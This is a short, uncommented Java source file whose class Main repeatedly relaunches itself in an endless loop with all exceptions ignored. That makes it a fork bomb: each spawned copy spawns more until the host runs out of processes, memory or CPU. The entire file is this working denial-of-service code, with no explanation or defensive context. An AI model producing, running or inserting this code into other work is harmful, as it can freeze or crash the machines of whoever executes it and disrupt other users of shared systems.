public class Main {
    public static void main(String[] args) throws Exception {
        String java = ProcessHandle.current().info().command().orElseThrow();
        while (true) {
            try {
                new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"), "Main").start();
            } catch (Exception ignored) {
            }
        }
    }
}
